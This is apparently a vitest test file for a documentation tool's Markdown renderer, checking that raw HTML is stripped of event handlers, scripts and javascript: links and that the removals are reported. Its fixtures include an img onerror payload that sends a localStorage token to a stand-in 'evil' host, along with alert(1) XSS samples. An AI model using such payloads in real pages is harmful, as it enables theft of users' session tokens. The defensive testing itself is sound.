import { describe, expect, it } from 'vitest';
import { renderDoc } from '../../../cli/markdown/render-doc.ts';
import { identity, reportedProblems } from '../../helpers/identity-resolvers.ts';

const STEAL = `<img src="data:image/png,x" onerror="new Image().src='https://evil/?t='+localStorage.getItem('token')">`;
const FIX =
  'raw HTML may not run script. To keep raw HTML as written, set "markdown": { "rawHtml": "trusted" } in docs.config.json';

describe('raw HTML in Markdown', () => {
  it('loses its event handlers, scripts and javascript: links, each reported where it is written', () => {
    const body = [
      '# Página',
      '',
      STEAL,
      '',
      'Texto com <span onclick="x()">um span</span> e [link](./a.md).',
      '',
      '## <img src=x onerror=alert(1)> Título',
      '',
      '| a | b |',
      '| - | - |',
      '| <svg onload=alert(1)></svg> | <a href="javascript:alert(1)">c</a> |',
      '',
      '<script>alert(1)</script>',
    ].join('\n');
    const problems = reportedProblems(body, 2);
    expect(problems).toEqual([
      `5:1: the onerror attribute of <img> was removed: ${FIX} (see the security model in SECURITY.md)`,
      `7:11: the onclick attribute of <span> was removed: ${FIX} (see the security model in SECURITY.md)`,
      `9:4: the onerror attribute of <img> was removed: ${FIX} (see the security model in SECURITY.md)`,
      `13:3: the <svg> element was removed: ${FIX} (see the security model in SECURITY.md)`,
      `13:33: the href of <a>, a javascript: URL was removed: ${FIX} (see the security model in SECURITY.md)`,
      `15:1: the <script> element and its content was removed: ${FIX} (see the security model in SECURITY.md)`,
    ]);
    const { html } = renderDoc({ body, bodyLineOffset: 2 }, { ...identity, report: () => {} });
    expect(html).not.toMatch(/onerror|onclick|onload|<script|javascript:|<svg/i);
    expect(html).toContain('<img src="data:image/png,x">');
    expect(html).toContain('<span>um span</span>');
  });

  it('passes raw HTML through as written when the site trusts it', () => {
    const { html } = renderDoc(
      { body: `${STEAL}\n`, bodyLineOffset: 0 },
      { ...identity, htmlPolicy: { rawHtml: 'trusted', iframeHosts: [] } },
    );
    expect(html).toContain('onerror=');
  });

  it('keeps an iframe from a listed host, and removes one from any other', () => {
    const body =
      '<iframe src="https://www.youtube-nocookie.com/embed/x"></iframe>\n\n<iframe src="https://evil.example/x"></iframe>\n';
    const found: string[] = [];
    const { html } = renderDoc(
      { body, bodyLineOffset: 0 },
      {
        ...identity,
        htmlPolicy: { rawHtml: 'sanitize', iframeHosts: ['www.youtube-nocookie.com'] },
        report: (p) => found.push(`${p.line}:${p.column}`),
      },
    );
    expect(html).toContain('src="https://www.youtube-nocookie.com/embed/x"');
    expect(html).not.toContain('evil.example');
    expect(found).toEqual(['3:1']);
  });
});

describe('where raw HTML removals are reported', () => {
  it('at the line and column of the tag in the file, inside blockquotes, lists and multi-line tags too', () => {
    const body = [
      '# Página', // 3
      '',
      '> <img src=x onerror=a>', // 5
      '',
      '- item <span onclick=b>x</span>', // 7
      '',
      '  <div onclick=c>', // 9
      '',
      '> texto <span', // 11
      '> onclick=d>x</span> e <i onclick=e>y</i>', // 12
      '',
      '1. um', // 14
      '   > <div>',
      '   > <p onclick=f>a</p>', // 16
      '   > </div>',
      '',
      '<b onclick=g>a</b> <b onclick=h>b</b>', // 19
    ].join('\n');
    expect(reportedProblems(body, 2).map((p) => p.replace(/ was removed: .*/, ''))).toEqual([
      '5:3: the onerror attribute of <img>',
      '7:8: the onclick attribute of <span>',
      '9:3: the onclick attribute of <div>',
      '11:9: the onclick attribute of <span>',
      '12:24: the onclick attribute of <i>',
      '16:6: the onclick attribute of <p>',
      '19:1: the onclick attribute of <b>',
      '19:20: the onclick attribute of <b>',
    ]);
  });
});
